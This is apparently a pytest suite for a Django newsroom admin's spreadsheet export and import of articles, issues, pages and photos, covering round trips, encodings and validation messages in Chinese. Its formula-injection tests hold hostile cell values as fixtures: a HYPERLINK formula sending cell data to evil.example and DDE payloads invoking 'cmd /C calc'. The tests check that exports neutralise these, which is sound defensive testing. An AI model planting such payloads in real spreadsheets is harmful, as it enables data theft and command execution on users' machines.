"""Spreadsheet round trips: export the rows selected or filtered as CSV (UTF-8 with BOM), XLSX
or JSON, edit them in Excel, import them back with a preview; rows are matched by natural keys,
only edited rows change, and a bad row is rejected with its number while nothing is written."""

import codecs
import csv
import io
import json

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from articles.models import Article, Byline, Issue, Page, Person, Photo, PhotoCredit
from articles.spreadsheets import (
    FORMATS,
    ArticleResource,
    IssueResource,
    PageResource,
    PhotoResource,
)
from tests.public import dom

pytestmark = pytest.mark.django_db

CSV, XLSX, JSON = "0", "1", "2"


def browser_form(response, marker: str, **choices) -> dict:
    """What a browser sends when it submits the page's form that holds a field named ``marker``,
    as rendered: every named input (checkboxes and radios only when checked; no file or submit),
    each select's selected option (else its first) and every textarea; ``choices`` on top."""
    forms = [
        f
        for f in dom.parse(response).find_all("form")
        if any(e.attrs.get("name") == marker for e in f.iter())
    ]
    assert len(forms) == 1, f"{len(forms)} forms with a field {marker!r}"
    sent: dict[str, list[str]] = {}
    for element in forms[0].iter():
        name = element.attrs.get("name")
        if not name:
            continue
        if element.tag == "input":
            kind = (element.attrs.get("type") or "text").lower()
            if kind in ("submit", "button", "reset", "image", "file"):
                continue
            if kind in ("checkbox", "radio") and "checked" not in element.attrs:
                continue
            default = "on" if kind in ("checkbox", "radio") else ""
            sent.setdefault(name, []).append(element.attrs.get("value") or default)
        elif element.tag == "select":
            options = element.find_all("option")
            chosen = [o for o in options if "selected" in o.attrs] or options[:1]
            for option in chosen:
                sent.setdefault(name, []).append(option.attrs.get("value", option.text))
        elif element.tag == "textarea":
            sent.setdefault(name, []).append(element.text)
    data: dict = {k: v[0] if len(v) == 1 else v for k, v in sent.items()}
    data.update(choices)
    return data


def export(client, model: str, fmt: str, query: str = "", items=None) -> bytes:
    """Open the export page, keep every column ticked, choose ``fmt`` and submit."""
    address = reverse(f"admin:articles_{model}_export") + query
    data = browser_form(client.get(address), "format", format=fmt)
    if items is not None:
        data["export_items"] = [str(pk) for pk in items]
    response = client.post(address, data)
    assert response.status_code == 200, response.content[:2000]
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def dataset(content: bytes, fmt: str) -> tablib.Dataset:
    if fmt == XLSX:
        return tablib.Dataset().load(io.BytesIO(content), format="xlsx")
    if fmt == JSON:
        return tablib.Dataset().load(content.decode("utf-8"), format="json")
    return tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")


def as_file(ds: tablib.Dataset, fmt: str, encoding: str = "utf-8-sig") -> SimpleUploadedFile:
    if fmt == XLSX:
        return SimpleUploadedFile("articles.xlsx", ds.export("xlsx"))
    if fmt == JSON:
        return SimpleUploadedFile("articles.json", ds.export("json").encode())
    return SimpleUploadedFile("articles.csv", ds.export("csv").encode(encoding))


def import_preview(client, model: str, upload, fmt: str):
    """Open the import page, choose the file and its format, submit: the preview."""
    address = reverse(f"admin:articles_{model}_import")
    page = client.get(address)
    assert page.status_code == 200
    return client.post(address, browser_form(page, "format", import_file=upload, format=fmt))


def import_confirm(client, model: str, preview):
    """Press “确认导入” on the preview page."""
    data = browser_form(preview, "import_file_name")
    return client.post(reverse(f"admin:articles_{model}_process_import"), data)


def edit_headlines(ds: tablib.Dataset, changes: dict[int, str]) -> None:
    column = ds.headers.index("主题")
    rows = [list(r) for r in ds]
    for index, headline in changes.items():
        rows[index][column] = headline
    headers = ds.headers
    ds.dict = [dict(zip(headers, r, strict=True)) for r in rows]


def article_rows():
    return {
        (a.page.label, a.position): (a.headline, a.edited_at, a.updated_at)
        for a in Article.objects.select_related("page")
    }


@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
def test_round_trip_changes_exactly_the_edited_rows(editor_client, seed_with_a2, fmt):
    content = export(editor_client, "article", fmt)
    ds = dataset(content, fmt)
    assert ds.headers[:4] == ["报纸", "日期", "版次", "位置"]
    assert len(ds) == Article.objects.count() == 5
    before = article_rows()
    edit_headlines(ds, {1: "城建重点工程讲评会召开", 3: "千企联千村首批签约"})

    preview = import_preview(editor_client, "article", as_file(ds, fmt), fmt)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [r.import_type for r in result.rows].count("update") == 2
    assert [r.import_type for r in result.rows].count("skip") == 3
    assert article_rows() == before  # the preview wrote nothing

    done = import_confirm(editor_client, "article", preview)
    assert done.status_code == 302
    after = article_rows()
    changed = {key for key in after if after[key] != before[key]}
    keys = [(row[2], int(row[3])) for row in ds]
    assert changed == {keys[1], keys[3]}
    assert after[keys[1]][0] == "城建重点工程讲评会召开"
    assert after[keys[3]][0] == "千企联千村首批签约"
    assert all(after[k][1] is not None for k in changed)  # marked as edited by hand
    edited = Article.objects.get(headline="城建重点工程讲评会召开")
    assert edited.history.first().history_change_reason == "表格导入"


def test_csv_export_is_utf8_with_bom_and_json_is_plain_utf8(editor_client, seed):
    csv = export(editor_client, "article", CSV)
    assert csv.startswith(codecs.BOM_UTF8)
    assert "以重大项目支撑" in csv.decode("utf-8-sig")
    data = json.loads(export(editor_client, "article", JSON))
    assert {row["主题"] for row in data} >= {"以重大项目支撑 南通高质量发展走在前列"}


def test_csv_import_accepts_utf8_without_bom_and_gb18030(editor_client, seed):
    for encoding, headline in [("utf-8", "无BOM的标题"), ("gb18030", "国标编码的标题")]:
        ds = dataset(export(editor_client, "article", CSV), CSV)
        edit_headlines(ds, {0: headline})
        preview = import_preview(editor_client, "article", as_file(ds, CSV, encoding), CSV)
        assert preview.context["result"].totals["update"] == 1, encoding
        import_confirm(editor_client, "article", preview)
        assert Article.objects.filter(headline=headline).count() == 1


def test_export_of_selected_and_of_filtered_rows(editor_client, seed_with_a2):
    chosen = list(Article.objects.order_by("position").values_list("pk", flat=True)[:2])
    ds = dataset(export(editor_client, "article", CSV, items=chosen), CSV)
    assert len(ds) == 2
    ds = dataset(export(editor_client, "article", CSV, query="?q=徐惠民"), CSV)
    assert sorted(int(p) for p in ds["位置"]) == [1, 2]
    # the action on the list leads to the same export form, with the rows selected
    response = editor_client.post(
        reverse("admin:articles_article_changelist"),
        {"action": "export_admin_action", "_selected_action": chosen},
    )
    assert response.status_code == 200 and "export_items" in response.context["form"].fields


def test_rows_are_matched_by_natural_keys_not_ids(seed):
    ds = ArticleResource().export()
    assert "id" not in ds.headers
    ds2 = tablib.Dataset(headers=ds.headers)
    for row in reversed(list(ds)):  # row order does not matter
        ds2.append(row)
    result = ArticleResource().import_data(ds2, dry_run=False)
    assert result.totals["skip"] == 5 and not result.has_validation_errors()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("日期", "2020-13-45", "不是有效日期"),
        ("日期", "2020-07-10", "没有 2020-07-10 这一期"),
        ("版次", "A9", "没有 A9 版"),
        ("版次", "不是版次", "不是版次"),
        ("位置", "99", "没有从第 99 篇开始的稿件"),
        ("报纸", "人民日报", "没有名为“人民日报”的报纸"),
    ],
)
def test_a_bad_row_is_rejected_with_its_number_and_nothing_is_written(
    editor_client, seed, column, value, message
):
    ds = ArticleResource().export()
    edit_headlines(ds, {0: "改过的标题"})  # a good row before the bad one
    rows = [list(r) for r in ds]
    rows[2][ds.headers.index(column)] = value
    ds.dict = [dict(zip(ds.headers, r, strict=True)) for r in rows]
    before = article_rows()

    result = ArticleResource().import_data(ds, dry_run=False)
    assert result.has_validation_errors()
    [invalid] = result.invalid_rows
    assert invalid.number == 3
    assert message in " ".join(str(e) for errors in invalid.error_dict.values() for e in errors)
    assert article_rows() == before  # the good row was rolled back too

    preview = import_preview(editor_client, "article", as_file(ds, CSV), CSV)
    html = preview.content.decode()
    assert preview.context.get("confirm_form") is None  # nothing to confirm
    assert message in html
    assert article_rows() == before


def test_a_text_too_long_for_its_column_is_rejected(seed):
    ds = ArticleResource().export()
    edit_headlines(ds, {0: "长" * 301})
    result = ArticleResource().import_data(ds, dry_run=False)
    assert result.has_validation_errors()
    assert "主题超过 300 字" in str(result.invalid_rows[0].error_dict)


def test_a_file_missing_key_columns_is_refused(editor_client, seed):
    ds = tablib.Dataset(["以重大项目支撑"], headers=["主题"])
    preview = import_preview(editor_client, "article", as_file(ds, CSV), CSV)
    assert "表格缺少这些列：报纸、日期、版次、位置" in preview.content.decode()


def test_an_unreadable_file_is_explained(editor_client, seed):
    upload = SimpleUploadedFile("x.csv", b"\xff\xfe\xfa\x00\x81\x30")
    preview = import_preview(editor_client, "article", upload, CSV)
    assert "无法读取这个文件" in preview.content.decode()


def test_reporters_and_status_round_trip(seed):
    ds = ArticleResource().export()
    rows = [list(r) for r in ds]
    rows[0][ds.headers.index("记者")] = "卢兆欣、朱文君、新记者"
    rows[1][ds.headers.index("状态")] = "已发布"
    ds.dict = [dict(zip(ds.headers, r, strict=True)) for r in rows]
    result = ArticleResource().import_data(ds, dry_run=False)
    assert result.totals["update"] == 2, [r.validation_error for r in result.invalid_rows]
    first, second = Article.objects.order_by("position")[:2]
    assert first.reporter_names() == ["卢兆欣", "朱文君", "新记者"]
    assert second.status == "published"


@pytest.mark.parametrize(
    ("resource", "column", "value", "check"),
    [
        (IssueResource, "期号", "12345", lambda: Issue.objects.get().number == 12345),
        (PageResource, "版名", "要闻", lambda: Page.objects.get().section == "要闻"),
        (
            PhotoResource,
            "署名行",
            "记者 许丛军 摄",
            lambda: Photo.objects.get().credit_line == "记者 许丛军 摄",
        ),
    ],
    ids=["issue", "page", "photo"],
)
def test_issues_pages_and_photos_round_trip_too(seed, resource, column, value, check):
    ds = resource().export()
    assert len(ds) == 1
    rows = [list(r) for r in ds]
    rows[0][ds.headers.index(column)] = value
    ds.dict = [dict(zip(ds.headers, r, strict=True)) for r in rows]
    result = resource().import_data(ds, dry_run=False)
    assert result.totals["update"] == 1, [r.error_dict for r in result.invalid_rows]
    assert check()
    again = resource().import_data(ds, dry_run=False)
    assert again.totals["skip"] == 1


def test_photo_round_trip_marks_the_photo_edited(seed):
    ds = PhotoResource().export()
    rows = [list(r) for r in ds]
    rows[0][ds.headers.index("摄影")] = "许丛军、王新"
    ds.dict = [dict(zip(ds.headers, r, strict=True)) for r in rows]
    PhotoResource().import_data(ds, dry_run=False)
    photo = Photo.objects.get()
    assert photo.edited_at is not None
    assert [c.person.name for c in photo.credits.order_by("order")] == ["许丛军", "王新"]


@pytest.mark.parametrize("model", ["issue", "page", "photo"])
def test_admin_exports_the_other_models(editor_client, seed, model):
    for fmt in (CSV, XLSX, JSON):
        assert export(editor_client, model, fmt)


def test_viewers_may_export_but_not_import(viewer_client, seed):
    assert export(viewer_client, "article", CSV)
    assert viewer_client.get(reverse("admin:articles_article_import")).status_code == 403


# --------------------------------------------------------------------------------------------
# Formula injection: text a spreadsheet would run is written inert, and read back as it was
# --------------------------------------------------------------------------------------------

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "kicker": "+1+cmd|' /C calc'!A0",
    "subheadline": "-2+3",
    "byline": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dateline": "'=1+1",  # already quoted once: still read back exactly
}
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


def hostile_article() -> Article:
    article = Article.objects.order_by("position").first()
    Article.objects.filter(pk=article.pk).update(**HOSTILE)
    return article


def cells(content: bytes, fmt: str) -> list[list]:
    """Every cell of an exported file as a spreadsheet program reads it (XLSX: openpyxl cells)."""
    if fmt == XLSX:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [list(row) for row in sheet.iter_rows()]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_inert(rows: list[list], fmt: str) -> None:
    """No cell is a formula or starts with a character that makes one; each hostile text is
    there, behind one apostrophe."""
    texts = []
    for row in rows:
        for cell in row:
            if fmt == XLSX:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.append(cell.value)
            else:
                texts.append(cell)
    assert not [t for t in texts if t.startswith(RUNNABLE)]
    for value in HOSTILE.values():
        assert "'" + value in texts


@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
def test_exported_formula_text_is_inert_and_reads_back_unchanged(editor_client, seed, fmt):
    hostile_article()
    content = export(editor_client, "article", fmt)
    assert_inert(cells(content, fmt), fmt)

    # imported back untouched, nothing changes: the apostrophe is taken off again
    preview = import_preview(editor_client, "article", SimpleUploadedFile("a", content), fmt)
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == 5 and result.totals["update"] == 0


@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
def test_resource_export_is_inert_in_every_spreadsheet_format(seed, fmt):
    hostile_article()
    file_format = FORMATS[int(fmt)]()
    content = file_format.export_data(ArticleResource().export())
    assert_inert(cells(content if isinstance(content, bytes) else content.encode(), fmt), fmt)


def test_formula_text_typed_into_a_spreadsheet_is_stored_as_text(seed):
    ds = ArticleResource().export()
    edit_headlines(ds, {0: "=1+1", 1: "'-5 度"})
    result = ArticleResource().import_data(ds, dry_run=False)
    assert result.totals["update"] == 2, [r.error_dict for r in result.invalid_rows]
    first, second = Article.objects.order_by("position")[:2]
    assert (first.headline, second.headline) == ("=1+1", "-5 度")


# --------------------------------------------------------------------------------------------
# Row errors: Chinese, naming the column, the same on every database, nothing written
# --------------------------------------------------------------------------------------------

RESOURCES = {"article": ArticleResource, "issue": IssueResource, "page": PageResource}
RESOURCES["photo"] = PhotoResource
GOOD_EDIT = {"article": "主题", "issue": "期号", "page": "版名", "photo": "署名行"}
CONTROL = "含有不可见的控制字符"


def snapshot() -> dict:
    """Every row of every table a spreadsheet import may touch."""
    return {
        model.__name__: list(model.objects.order_by("pk").values_list())
        for model in (Issue, Page, Article, Photo, Person, Byline, PhotoCredit)
    }


def with_cell(ds: tablib.Dataset, row: int, column: str, value) -> tablib.Dataset:
    rows = [list(r) for r in ds]
    rows[row][ds.headers.index(column)] = value
    out = tablib.Dataset(headers=ds.headers)
    for r in rows:
        out.append(r)
    return out


def row_errors(result) -> tuple[int, dict[str, str]]:
    [invalid] = result.invalid_rows
    return invalid.number, {
        column: " ".join(str(m) for m in messages)
        for column, messages in invalid.error_dict.items()
    }


@pytest.mark.parametrize(
    ("model", "column", "value", "message"),
    [
        ("issue", "期号", "abc", "期号须为 0 到 2147483647 之间的整数"),
        ("issue", "期号", "2147483648", "期号须为 0 到 2147483647 之间的整数"),
        ("issue", "期号", "-3", "期号须为 0 到 2147483647 之间的整数"),
        ("issue", "期号", "²", "期号须为 0 到 2147483647 之间的整数"),
        ("issue", "期号", 12.5, "期号须为 0 到 2147483647 之间的整数"),
        ("article", "主题", "标题\x00", "主题" + CONTROL),
        ("article", "引题", "引题\x1b[0m", "引题" + CONTROL),
        ("article", "记者", "张\x00三", "记者" + CONTROL),
        ("article", "记者", "张三、" + "长" * 51, "超过 50 字"),
        ("article", "位置", "²", "不是版内位置"),
        ("article", "报纸", "南通\x00日报", "报纸" + CONTROL),
        ("article", "版次", "A\x001", "版次" + CONTROL),
        ("article", "状态", "草稿\x00", "状态" + CONTROL),
        ("page", "版名", "要\x1f闻", "版名" + CONTROL),
        ("photo", "署名行", "记者\x00", "署名行" + CONTROL),
        ("photo", "摄影", "许\x00丛军", "摄影" + CONTROL),
        ("photo", "图片说明", "说明\x07", "图片说明" + CONTROL),
    ],
    ids=[
        "number-letters",
        "number-over-the-column",
        "number-negative",
        "number-unicode-digit",
        "number-fraction",
        "headline-nul",
        "kicker-escape",
        "reporter-nul",
        "reporter-too-long",
        "position-unicode-digit",
        "paper-nul",
        "page-label-nul",
        "status-nul",
        "section-control",
        "credit-line-nul",
        "photographer-nul",
        "caption-bell",
    ],
)
def test_a_bad_cell_is_refused_in_chinese_naming_its_column_and_nothing_is_written(
    editor_client, seed_with_a2, model, column, value, message
):
    resource = RESOURCES[model]
    ds = resource().export()
    last = len(ds) - 1
    good = "1234" if model == "issue" else "改过的内容"
    ds = with_cell(ds, 0, GOOD_EDIT[model], good)  # a good row first, which must not be kept
    ds = with_cell(ds, last, column, value)
    before = snapshot()

    result = resource().import_data(ds, dry_run=False)
    assert not result.has_errors()  # no raw Python or database error: a refused row
    number, errors = row_errors(result)
    assert number == last + 1
    assert message in errors.get(column, ""), errors
    assert set(errors) <= set(ds.headers)  # every error is under a column the editor sees
    assert snapshot() == before

    preview = import_preview(editor_client, model, as_file(ds, CSV), CSV)
    html = preview.content.decode()
    assert preview.status_code == 200 and message in html
    assert preview.context.get("confirm_form") is None  # nothing to confirm
    for raw in ("invalid literal", "NUL", "0x00", "Traceback", "out of range"):
        assert raw not in html
    assert snapshot() == before


@pytest.mark.parametrize("paper", ["南通日报", "nantong-daily"], ids=["name", "slug"])
def test_two_rows_for_the_same_story_are_refused_with_both_row_numbers(editor_client, seed, paper):
    ds = ArticleResource().export()
    ds = with_cell(ds, 1, "主题", "第一次改的标题")
    copy = list(ds[1])
    copy[ds.headers.index("主题")] = "第二次改的标题"
    copy[ds.headers.index("报纸")] = paper
    ds.append(copy)
    before = snapshot()

    result = ArticleResource().import_data(ds, dry_run=False)
    number, errors = row_errors(result)
    assert number == 6
    assert "第 6 行与第 2 行是同一篇稿件" in " ".join(errors.values())
    assert snapshot() == before

    preview = import_preview(editor_client, "article", as_file(ds, CSV), CSV)
    assert "第 6 行与第 2 行是同一篇稿件" in preview.content.decode()
    assert preview.context.get("confirm_form") is None
    assert snapshot() == before


def test_two_rows_for_the_same_page_are_refused(seed):
    ds = PageResource().export()
    ds.append(list(ds[0]))
    number, errors = row_errors(PageResource().import_data(ds, dry_run=False))
    assert number == 2 and "第 2 行与第 1 行是同一版" in " ".join(errors.values())


def test_a_control_character_in_stored_text_does_not_break_the_xlsx_export(editor_client, seed):
    article = Article.objects.order_by("position").first()
    Article.objects.filter(pk=article.pk).update(headline="旧稿\x01标题")
    rows = cells(export(editor_client, "article", XLSX), XLSX)
    assert "旧稿\ufffd标题" in [cell.value for row in rows for cell in row]


def test_a_refused_file_shows_no_traceback(editor_client, seed):
    ds = tablib.Dataset(["以重大项目支撑"], headers=["主题"])
    html = import_preview(editor_client, "article", as_file(ds, CSV), CSV).content.decode()
    assert "表格缺少这些列" in html
    assert "Traceback" not in html and "resources.py" not in html


def test_a_row_the_database_refuses_is_explained_in_chinese(editor_client, seed, monkeypatch):
    from django.db import DataError

    def refuse(*args, **kwargs):
        raise DataError("value too long for type character varying(300)")

    monkeypatch.setattr(Article, "save", refuse)
    ds = ArticleResource().export()
    ds = with_cell(ds, 1, "主题", "改过的标题")
    before = snapshot()
    preview = import_preview(editor_client, "article", as_file(ds, CSV), CSV)
    html = preview.content.decode()
    assert "这一行无法保存（DataError）" in html
    assert "value too long" not in html and "Traceback" not in html
    assert preview.context.get("confirm_form") is None
    assert snapshot() == before


@pytest.mark.parametrize("written", ["南通日報", " 南通日报 ", "NANTONG-DAILY"])
def test_the_paper_column_reads_the_name_as_the_commands_do(seed, written):
    """南通日報 is 南通日报 (traditional = simplified), as for the commands' ``--paper``."""
    ds = ArticleResource().export()
    edit_headlines(ds, {0: "改过的标题"})
    ds.dict = [{**row, "报纸": written} for row in ds.dict]
    result = ArticleResource().import_data(ds, dry_run=False)
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert Article.objects.filter(headline="改过的标题").count() == 1


def test_a_paper_name_two_papers_fold_to_is_refused_by_name(seed):
    from articles.models import Publication

    Publication.objects.create(name="体育日报", slug="tiyu")
    Publication.objects.create(name="體育日報", slug="tiyu-hk")
    ds = ArticleResource().export()
    ds.dict = [{**row, "报纸": "体育日報"} for row in ds.dict]
    result = ArticleResource().import_data(ds, dry_run=True)
    assert result.has_validation_errors()
    message = str(result.invalid_rows[0].error_dict["报纸"])
    assert "可指不止一份报纸" in message and "URL 标识" in message
    assert "（URL 标识 tiyu）" in message and "（URL 标识 tiyu-hk）" in message  # which is which
